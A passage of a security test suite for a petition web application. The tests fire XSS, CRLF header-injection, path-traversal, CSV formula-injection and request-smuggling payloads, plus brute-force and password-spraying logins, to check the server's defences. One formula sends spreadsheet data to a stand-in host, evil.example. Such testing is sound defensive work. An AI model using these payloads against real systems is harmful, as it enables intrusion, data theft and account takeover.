		`/units/resolve?code=${inj}`, `/cases/export.csv?q=${inj}`]) {
		const res = await v.get(p);
		assertNoSplit(res, `GET ${p}`);
		assert.ok(res.status < 500, `${p}: ${res.status}`);
		if (res.status === 303) assert.match(res.location, /^\/login\?next=[^\r\n]*$/);
	}
	/* raw CR/LF bytes (not encoded) in the request line and headers are refused by the parser */
	for (const req of [`GET /cases/\r\nX-Injected: 1 HTTP/1.1\r\nHost: x\r\n\r\n`,
		`GET /?lang=en HTTP/1.1\r\nHost: x\r\nCookie: dv_lang=en\rX-Injected: 1\r\n\r\n`]) {
		const text = await rawRequest(req);
		assert.doesNotMatch(text, /^X-Injected/im, 'raw CR in a request became a response header');
	}
	/* the login's next, signed in */
	const c = new Browser('user', { localAddress: '127.0.2.7' });
	await c.page('/login');
	const res = await c.post('/login', { form: { csrf: c.csrf, login: 'ha-noi.leader', password: DEMO_PASSWORD, next: `/account\r\nX-Injected: 1` } });
	assertNoSplit(res, 'POST /login next');
	/* attachment names through ?name= (query values may hold LF) and multipart */
	const rec = await actor('hai-phong.reception');
	const B = AREAS.HP;
	const names = ['a\r\nX-Injected: 1\r\n.pdf', 'b"; filename="evil.html', 'c\nSet-Cookie: evil=1.pdf', '../../etc/passwd.pdf', 'd%0d%0aX-Injected:1.pdf', '<script>alert(1)</script>.pdf'];
	const ids = [];
	for (const name of names) {
		const up = await rec.browser.post(`/api/v1/cases/${B.existing}/attachments?name=${encodeURIComponent(name)}`, {
			bearer: rec.token, noCookies: true, body: PDF, headers: { 'Content-Type': 'application/octet-stream' },
		});
		if (up.status === 400) continue; /* refused outright: fine */
		assert.equal(up.status, 201, `upload named ${JSON.stringify(name)}: ${up.status} ${up.text}`);
		assert.doesNotMatch(up.text, /<script>/, 'the JSON echoes the name unescaped for HTML? (JSON is fine, but not as text/html)');
		assert.match(up.headers['content-type'], /^application\/json/);
		ids.push(Number(q1(`SELECT max(id) FROM case_attachment WHERE case_id = ${B.existing}`)));
	}
	const hand = await actor('hai-phong.handler');
	for (const id of ids) {
		const dl = await hand.browser.get(`/cases/${B.existing}/attachments/${id}`);
		assert.equal(dl.status, 200);
		assertNoSplit(dl, `download ${id}`);
		const cd = dl.headers['content-disposition'];
		assert.match(cd, /^attachment; filename="[A-Za-z0-9._-]+"; filename\*=UTF-8''[A-Za-z0-9%._~!$&'()*+,;=:@-]+$/, `Content-Disposition: ${cd}`);
		assert.equal(dl.headers['content-type'], 'application/pdf');
	}
	/* and the case page lists those names escaped */
	const page = await hand.browser.get(`/cases/${B.existing}`);
	assert.equal(page.status, 200);
	assert.ok(!page.text.includes('<script>alert(1)</script>'), 'a file name is shown unescaped on the case page');
});

// ==== script payloads in the public forms ================================================

const XSS = [`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `</textarea><svg onload=alert(1)>`, `javascript:alert(1)//<b>x</b>`];
const rawXss = (text) => XSS.filter((x) => text.includes(x) || /<script>alert|<img src=x onerror|<svg onload/i.test(text)).slice(0, 1);

test('script payloads in every text field of the public forms come back escaped', async () => {
	const v = new Browser('citizen', { localAddress: '127.0.3.1' });
	await v.page('/gui-don');
	const form = parseForms((await v.get('/gui-don')).text).find((f) => f.action === '/gui-don');
	assert.ok(form, 'no intake form');
	const textFields = Object.keys(form.fields).filter((k) => !['csrf', 'kind', 'province_id', 'unit_id', 'signed', 'anonymous'].includes(k));
	const html = (await v.get('/gui-don')).text;
	for (const m of html.matchAll(/<(?:input|textarea)\b[^>]*name="([^"]+)"[^>]*>/g))
		if (!/type="(?:hidden|checkbox|radio|file|submit)"/.test(m[0]) && !textFields.includes(m[1])) textFields.push(m[1]);
	assert.ok(textFields.includes('title') && textFields.includes('content') && textFields.includes('name'), `fields: ${textFields}`);
	/* 1. the form shown again with errors (kind missing): every field echoed escaped */
	for (const x of XSS) {
		const data = { csrf: v.csrf };
		for (const f of textFields) data[f] = x;
		const res = await v.post('/gui-don', { multipart: data });
		assert.equal(res.status, 400, `bad submission → ${res.status}`);
		assert.deepEqual(rawXss(res.text), [], `/gui-don echoes a payload raw (fields ${textFields})`);
	}
	/* 2. a valid submission carrying payloads in its texts */
	const x = XSS[0];
	const data = { csrf: v.csrf, kind: 'petition', title: `Kiến nghị ${x}`, content: `Nội dung ${x}\n${XSS[1]}\n${XSS[2]}`,
		name: `Phạm ${x}`, address: `Số 3 ${XSS[1]}`, phone: '0911222333', commune: '10507', signed: '1' };
	let res = await v.post('/gui-don', { multipart: data });
	assert.equal(res.status, 303, `valid submission with payloads: ${res.status} ${res.text.slice(0, 300)}`);
	const code = /^\/tra-cuu\/([^?]+)/.exec(res.location)[1];
	const id = Number(q1(`SELECT id FROM cases WHERE code = ${sq(code)}`));
	res = await v.get(res.location);
	assert.equal(res.status, 200);
	assert.deepEqual(rawXss(res.text), [], 'the tracking page shows a payload raw');
	/* 3. additions through the tracking page */
	await v.page(`/tra-cuu/${code}`);
	res = await v.post(`/tra-cuu/${code}/bo-sung`, { form: { csrf: v.csrf, text: `Bổ sung ${XSS.join(' ')}` } });
	assert.ok([303, 200].includes(res.status), `addition: ${res.status} ${res.text.slice(0, 200)}`);
	res = await v.post(`/tra-cuu/${code}/bo-sung`, { form: { csrf: v.csrf, text: 'x'.repeat(6000) + XSS[0] } });
	assert.deepEqual(rawXss(res.text), [], 'the addition form echoes a payload raw');
	res = await v.get(`/tra-cuu/${code}`);
	assert.deepEqual(rawXss(res.text), [], 'the tracking page shows an addition raw');
	/* rating and appeal forms, refused in this state, echo nothing raw */
	for (const [p, f] of [[`/tra-cuu/${code}/danh-gia`, { rating: '9', note: XSS.join(' ') }], [`/tra-cuu/${code}/khieu-nai-tiep`, { text: XSS.join(' ') }]]) {
		res = await v.post(p, { form: { csrf: v.csrf, ...f } });
		assert.ok(res.status < 500, `${p}: ${res.status}`);
		assert.deepEqual(rawXss(res.text), [], `${p} echoes a payload raw`);
	}
	/* the code box and the login form */
	for (const p of [`/tra-cuu?code=${encodeURIComponent(XSS[0])}`, `/units?q=${encodeURIComponent(XSS[1])}`, `/login?next=${encodeURIComponent('/' + XSS[0])}`,
		`/units/resolve?code=${encodeURIComponent(XSS[2])}`, `/tra-cuu/${encodeURIComponent(XSS[0])}`]) {
		res = await v.get(p);
		assert.ok(res.status < 500, `${p}: ${res.status}`);
		assert.deepEqual(rawXss(res.text), [], `${p} echoes a payload raw`);
	}
	await v.page('/login');
	res = await v.post('/login', { form: { csrf: v.csrf, login: XSS[0], password: 'x', next: XSS[1] } });
	assert.deepEqual(rawXss(res.text), [], 'the login form echoes a payload raw');
	/* 4. where staff see it: case page, list, search, API, exports, reveal */
	const hand = await actor('hai-phong.handler');
	for (const p of [`/cases/${id}`, `/cases?q=${encodeURIComponent('Kiến nghị')}`, '/cases', `/admin/audit?type=case&id=${id}`]) {
		res = await hand.browser.get(p);
		assert.ok(res.status < 500, `${p}: ${res.status}`);
		assert.deepEqual(rawXss(res.text), [], `staff page ${p} shows a payload raw`);
	}
	res = await hand.browser.get(`/api/v1/cases/${id}`);
	assert.match(res.headers['content-type'], /^application\/json/);
	const csv = await (await actor('hai-phong.leader')).browser.get('/cases/export.csv');
	assert.equal(csv.status, 200);
	assert.match(csv.headers['content-type'], /^text\/csv/);
	assert.match(csv.headers['content-disposition'] || '', /^attachment/);
	/* a denunciation sent with payloads in the identity, revealed by the handler */
	await v.page('/gui-don');
	res = await v.post('/gui-don', { multipart: { csrf: v.csrf, kind: 'denunciation', title: 'Tố cáo thử', content: 'Nội dung tố cáo thử',
		name: `Đỗ ${x}`, address: `Thôn ${XSS[1]}`, phone: '0911222444', commune: '10507', signed: '1' } });
	assert.equal(res.status, 303, `denunciation: ${res.status} ${res.text.slice(0, 300)}`);
	await v.get(res.location); /* the tracking page waits for the case to be built */
	const did = Number(q1(`SELECT id FROM cases WHERE code = ${sq(/^\/tra-cuu\/([^?]+)/.exec(res.location)[1])}`));
	await hand.browser.page(`/cases/${did}`);
	res = await hand.browser.post(`/cases/${did}/reveal`, { form: { csrf: hand.browser.csrf, secret: vaultKey } });
	assert.equal(res.status, 200, `reveal: ${res.status} ${res.text.slice(0, 300)}`);
	assert.ok(res.text.includes('Đỗ &quot;&gt;&lt;script&gt;'), 'the revealed name is not shown (escaped)');
	assert.deepEqual(rawXss(res.text), [], 'the reveal page shows a payload raw');
});

test('CSV exports neutralise formulas in text cells', async () => {
	const v = new Browser('citizen', { localAddress: '127.0.3.2' });
	await v.page('/gui-don');
	const title = '=HYPERLINK("http://evil.example/?"&A1,"x")';
	const res = await v.post('/gui-don', { multipart: { csrf: v.csrf, kind: 'petition', title, content: '+cmd|\' /C calc\'!A0', name: '@SUM(1+1)', address: '-2+3', phone: '0911222555', commune: '10507', signed: '1' } });
	assert.equal(res.status, 303);
	await v.get(res.location); /* the tracking page waits for the case to be built */
	const csv = (await (await actor('hai-phong.leader')).browser.get('/cases/export.csv')).text;
	const line = csv.split('\n').find((l) => l.includes('HYPERLINK'));
	assert.ok(line, 'the case is not in the export');
	assert.doesNotMatch(line, /(^|,)"?=HYPERLINK/, `a formula cell: ${line}`);
});

// ==== malformed and oversized bodies ======================================================

test('malformed multipart, urlencoded and JSON bodies → 400, nothing written', async () => {
	const snap = snapshot();
	const rec = await actor('hai-phong.reception');
	const B = AREAS.HP;
	const v = new Browser('citizen', { localAddress: '127.0.3.3' });
	await v.page('/gui-don');
	const cookie = [...v.cookies].map(([k, val]) => `${k}=${val}`).join('; ');
	const bad = [];
	let ip = 0;
	const expect400 = async (what, p, body, type, extra = {}) => {
		/* the intake form is rate limited per address: each try from another one */
		const from = extra.who || new Browser('citizen', { localAddress: `127.0.5.${++ip}` });
		const res = await from.request('POST', p, { body, headers: { 'Content-Type': type, ...(extra.headers || {}) }, noCookies: extra.noCookies, bearer: extra.bearer });
		if (res.status !== 400 && !(extra.also || []).includes(res.status)) bad.push(`${what}: ${res.status} ${res.text.slice(0, 120)}`);
	};
	const csrfPart = (bd) => `--${bd}\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n${v.csrf}\r\n`;
	const bd = 'XyZ123';
	const mp = `multipart/form-data; boundary=${bd}`;
	const multiparts = {
		'no boundary parameter': [csrfPart(bd) + `--${bd}--\r\n`, 'multipart/form-data'],
		'empty boundary': [csrfPart(bd), 'multipart/form-data; boundary='],
		'boundary that never appears': [`--other\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n${v.csrf}\r\n--other--\r\n`, mp],
		'no closing boundary': [csrfPart(bd) + `--${bd}\r\nContent-Disposition: form-data; name="title"\r\n\r\nabc`, mp],
		'part without headers end': [csrfPart(bd) + `--${bd}\r\nContent-Disposition: form-data; name="title"abc--${bd}--\r\n`, mp],
		'part without a name': [csrfPart(bd) + `--${bd}\r\nContent-Disposition: form-data\r\n\r\nabc\r\n--${bd}--\r\n`, mp],
		'part without Content-Disposition': [csrfPart(bd) + `--${bd}\r\nContent-Type: text/plain\r\n\r\nabc\r\n--${bd}--\r\n`, mp],
		'unterminated quoted name': [csrfPart(bd) + `--${bd}\r\nContent-Disposition: form-data; name="title\r\n\r\nabc\r\n--${bd}--\r\n`, mp],
		'garbage': ['\x00\x01\x02garbage', mp],
		'a 71-character boundary': [csrfPart('b'.repeat(71)) + `--${'b'.repeat(71)}--\r\n`, `multipart/form-data; boundary=${'b'.repeat(71)}`],
		'invalid UTF-8 in a field name': [csrfPart(bd) + `--${bd}\r\nContent-Disposition: form-data; name="ti\xfftle"\r\n\r\nabc\r\n--${bd}--\r\n`, mp],
		'NUL in a text field': [csrfPart(bd) + `--${bd}\r\nContent-Disposition: form-data; name="title"\r\n\r\na\x00b\r\n--${bd}--\r\n`, mp],
	};
	for (const [what, [body, type]] of Object.entries(multiparts))
		await expect400(`multipart ${what}`, '/gui-don', Buffer.from(body, 'latin1'), type, { headers: { Cookie: cookie }, noCookies: true, also: [403] });
	/* multipart on a route that takes no multipart */
	const c = await actor('hai-phong.admin');
	await expect400('multipart on a form-only route', `/admin/orgs/${B.orgs[0]}/rename`, Buffer.from(csrfPart(bd) + `--${bd}--\r\n`), mp, { who: c.browser });
	for (const body of ['%zz=1', 'a=%', 'a=%e', 'csrf=%', `csrf=${v.csrf}&title=%C3`, `csrf=${v.csrf}&%ff=1`, `csrf=${v.csrf}&t=\u0001`])
		await expect400(`urlencoded ${JSON.stringify(body)}`, '/gui-don', Buffer.from(body, 'latin1'), 'application/x-www-form-urlencoded', { headers: { Cookie: cookie }, noCookies: true, also: [403] });
	const jsons = ['{', '{"kind":', '[', '"just a string"', '42', 'null', '{"kind":"petition",}', "{'kind':'petition'}", '{"kind":"petition"}garbage',
		'{"title":"\\ud800"}', '{"kind":NaN}', '\ufeff{"kind":"petition"}', '['.repeat(60000), '{"a":'.repeat(12000), '{"kind":"petition","title":1e999999}',
		'{"kind":["petition"]}', '{"citizen":"Nguyễn"}', '{"representatives":{"a":1}}', '{"people_count":-5}', '{"people_count":1e20}'];
	for (const body of jsons)
		await expect400(`JSON ${JSON.stringify(body.slice(0, 30))}`, '/api/v1/cases', Buffer.from(body), 'application/json', { who: rec.browser, bearer: rec.token, noCookies: true });
	await expect400('JSON with invalid UTF-8', '/api/v1/cases', Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]), 'application/json', { who: rec.browser, bearer: rec.token, noCookies: true });
	for (const body of ['{', '[]', '{"action":1}', '{"action":"note","note":["x"]}', '{"action":"note","extra_field":1}'])
		await expect400(`transition JSON ${body}`, `/api/v1/cases/${B.petition}/transitions`, Buffer.from(body), 'application/json', { who: rec.browser, bearer: rec.token, noCookies: true });
	await expect400('JSON on a form route', `/admin/orgs/${B.orgs[0]}/rename`, Buffer.from('{"name":"x"}'), 'application/json', { who: c.browser, headers: { 'X-CSRF-Token': c.browser.csrf } });
	await expect400('text/plain on a form route', '/gui-don', Buffer.from(`csrf=${v.csrf}`), 'text/plain', { headers: { Cookie: cookie }, noCookies: true });
	await expect400('empty raw upload', `/api/v1/cases/${B.petition}/attachments`, Buffer.alloc(0), 'application/octet-stream', { who: rec.browser, bearer: rec.token, noCookies: true });
	await expect400('a raw upload that is not a document', `/api/v1/cases/${B.petition}/attachments?name=x.pdf`, Buffer.from('MZ\x90\x00 this is an exe'), 'application/octet-stream', { who: rec.browser, bearer: rec.token, noCookies: true });
	assert.deepEqual(bad, [], `not answered 400:\n${bad.join('\n')}`);
	const diff = changes(snap).filter((d) => d.table !== 'session');
	assert.deepEqual(diff, [], 'a malformed request changed the database');
	/* the server is still well */
	assert.equal((await v.get('/healthz')).status, 200);
});

test('oversized bodies → 413 on every route with a cap, nothing written', async () => {
	const snap = snapshot();
	const rec = await actor('hai-phong.reception');
	const B = AREAS.HP;
	const bad = [];
	/* every POST row: a body one byte over its cap, declared and sent */
	for (const rt of ROUTES.filter((x) => x.methods.includes('POST'))) {
		const [bind] = bindings(rt.pattern, B, AREAS.HN);
		const who = new Browser('client', { localAddress: '127.0.6.1' });
		const res = await who.request('POST', bind.url, {
			body: Buffer.alloc(rt.bodyCap + 1, 0x61), bearer: rec.token,
			headers: { 'Content-Type': rt.flags.has('R_JSON') ? 'application/json' : 'application/x-www-form-urlencoded' },
		}).catch((e) => ({ status: `error ${e.code || e.message}`, text: '' }));
		if (res.status !== 413 && !(rt.flags.has('R_RATE_LIMIT') && res.status === 429)) bad.push(`${rt.pattern} (cap ${rt.bodyCap}): ${res.status}`);
	}
	/* really sent, chunked (no Content-Length): JSON over 64 KiB, a raw upload over 6 MiB, the intake form over 26 MiB */
	const big = async (p, size, type, who, extra = {}) => {
		const res = await who.request('POST', p, { body: Buffer.alloc(size, 0x20), headers: { 'Content-Type': type, 'Transfer-Encoding': 'chunked', ...(extra.headers || {}) }, bearer: extra.bearer, noCookies: extra.noCookies }).catch((e) => ({ status: `error ${e.code || e.message}` }));
		if (res.status !== 413) bad.push(`chunked ${p} ${size} bytes: ${res.status}`);
	};
	await big('/api/v1/cases', 65536 + 1, 'application/json', rec.browser, { bearer: rec.token, noCookies: true });
	await big(`/api/v1/cases/${B.petition}/attachments?name=x.pdf`, 6 * 1024 * 1024 + 1, 'application/octet-stream', rec.browser, { bearer: rec.token, noCookies: true });
	const v = new Browser('citizen', { localAddress: '127.0.3.4' });
	await v.page('/gui-don');
	await big('/gui-don', 26 * 1024 * 1024 + 1, 'multipart/form-data; boundary=x', v);
	/* a file over 5 MB inside the route's cap */
	const five = Buffer.concat([PDF, Buffer.alloc(5 * 1024 * 1024 + 10, 0x20)]);
	const up = await rec.browser.post(`/api/v1/cases/${B.petition}/attachments?name=big.pdf`, { body: five, bearer: rec.token, noCookies: true, headers: { 'Content-Type': 'application/octet-stream' } });
	if (up.status !== 413) bad.push(`a 5 MB + 10 bytes file: ${up.status}`);
	/* headers beyond the connection's memory: refused, not a crash */
	const hdr = await rawRequest(`GET / HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(100 * 1024)}\r\n\r\n`);
	const hs = Number((/^HTTP\/1\.[01] (\d{3})/.exec(hdr) || [])[1]);
	if (hs && hs < 400) bad.push(`a 100 KiB header: ${hs}`);
	const many = await rawRequest(`GET / HTTP/1.1\r\nHost: x\r\n${Array.from({ length: 5000 }, (_, i) => `X-H${i}: v`).join('\r\n')}\r\n\r\n`);
	const ms = Number((/^HTTP\/1\.[01] (\d{3})/.exec(many) || [])[1]);
	if (ms && ms < 400) bad.push(`5000 headers: ${ms}`);
	/* Content-Length nonsense */
	for (const cl of ['-1', '99999999999999999999999', '1, 2', 'abc']) {
		const t = await rawRequest(`POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${cl}\r\n\r\nlogin=a`);
		const s = Number((/^HTTP\/1\.[01] (\d{3})/.exec(t) || [])[1]);
		if (s && s < 400) bad.push(`Content-Length: ${cl} → ${s}`);
	}
	const smug = await rawRequest('POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n0\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: x\r\n\r\n');
	if ((smug.match(/^HTTP\/1\.1 200/gm) || []).length) bad.push(`CL+TE request smuggling: a 200 came back:\n${smug.slice(0, 300)}`);
	assert.deepEqual(bad, [], bad.join('\n'));
	assert.deepEqual(changes(snap).filter((d) => d.table !== 'session'), [], 'an oversized request changed the database');
	assert.equal((await v.get('/healthz')).status, 200);
});

test('a body announced over the cap is refused at once, not read to the end', { todo: 'the 413 waits for the whole declared body: answering first and closing makes a client still sending meet a reset instead of the 413 (src/web/server.c access_cb; needs a lingering close)' }, async () => {
	/* Content-Length 40 MiB on a 4 KiB route, 1 KiB sent: the answer must
	 * come without the client sending (or the server reading) the rest */
	const u = new URL(BASE);
	const t0 = Date.now();
	const text = await new Promise((resolve) => {
		const sock = net.connect(Number(u.port), u.hostname);
		let got = '';
		sock.setTimeout(3000, () => sock.destroy());
		sock.on('data', (d) => { got += d.toString('latin1'); if (got.includes('\r\n\r\n')) sock.destroy(); });
		sock.on('close', () => resolve(got));
		sock.on('error', () => resolve(got));
		sock.write(`POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${40 * 1024 * 1024}\r\n\r\n`);
		sock.write(Buffer.alloc(1024, 0x61));
	});
	assert.match(text, /^HTTP\/1\.1 413/, `no 413 within ${Date.now() - t0} ms (got ${JSON.stringify(text.slice(0, 40))})`);
});

// ==== login brute force ======================================================================

test('login brute force: every account locks after 5 failures, from any number of clients', async () => {
	/* many clients (source addresses) against one account: the lock is on the account */
	const login = 'phu-tho.massmob';
	const statuses = [];
	for (let i = 0; i < 8; i++) {
		const b = new Browser('attacker', { localAddress: `127.0.4.${i + 1}` });
		statuses.push((await b.login(login, `doan-mo-${i}`)).status);
	}
	assert.ok(statuses.slice(5).every((s) => s === 429), `statuses ${statuses}`);
	const good = new Browser('owner', { localAddress: '127.0.4.100' });
	assert.equal((await good.login(login)).status, 429, 'the right password was accepted while locked');
	assert.ok(!good.cookies.get('dv_session'));
	/* the lock does not let the password through over the API either */
	assert.equal((await good.get('/api/v1/me')).status, 401);
});

test('login: a locked account and an unknown login answer alike (no account enumeration)', async () => {
	const tryN = async (login, ip) => {
		const out = [];
		for (let i = 0; i < 7; i++) out.push((await new Browser('probe', { localAddress: ip }).login(login, `sai-${i}`)).status);
		return out;
	};
	const real = await tryN('ninh-binh.massmob', '127.0.4.200');
	const fake = await tryN('ninh-binh.khong-co', '127.0.4.201');
	assert.deepEqual(real, fake, `real account ${real} vs unknown ${fake}`);
});

test('login: failed attempts from one address are slowed down across accounts (password spraying)', async () => {
	const ip = '127.0.4.250';
	const statuses = [];
	const accounts = qall("SELECT login FROM user WHERE login LIKE 'c%.reception' ORDER BY id LIMIT 40").map((r) => r[0]);
	for (const login of accounts) statuses.push((await new Browser('sprayer', { localAddress: ip }).login(login, 'Matkhau@2025')).status);
	assert.ok(statuses.includes(429), `40 accounts tried from one address, none refused: ${[...new Set(statuses)]}`);
});

test('login: failed attempts sent all at once from one address stay within the same budget', async () => {
	/* The budget (20, then 5 a minute; src/ui/site.c) is reserved before the
	 * password hash: checked first and spent after, requests arriving
	 * together all passed the check. */
	const ip = '127.0.4.251';
	const accounts = qall('SELECT login FROM user ORDER BY id DESC LIMIT 60').map((r) => r[0]);
	const statuses = await Promise.all(accounts.map((login) =>
		new Browser('sprayer', { localAddress: ip }).login(login, 'Matkhau@2025').then((res) => res.status)));
	const answered = statuses.filter((s) => s !== 429).length;
	assert.ok(answered <= 21, `${answered} of ${accounts.length} simultaneous failed sign-ins were tried (budget 20): ${statuses.join(',')}`);
	assert.ok(answered >= 1, 'none was tried at all');
});
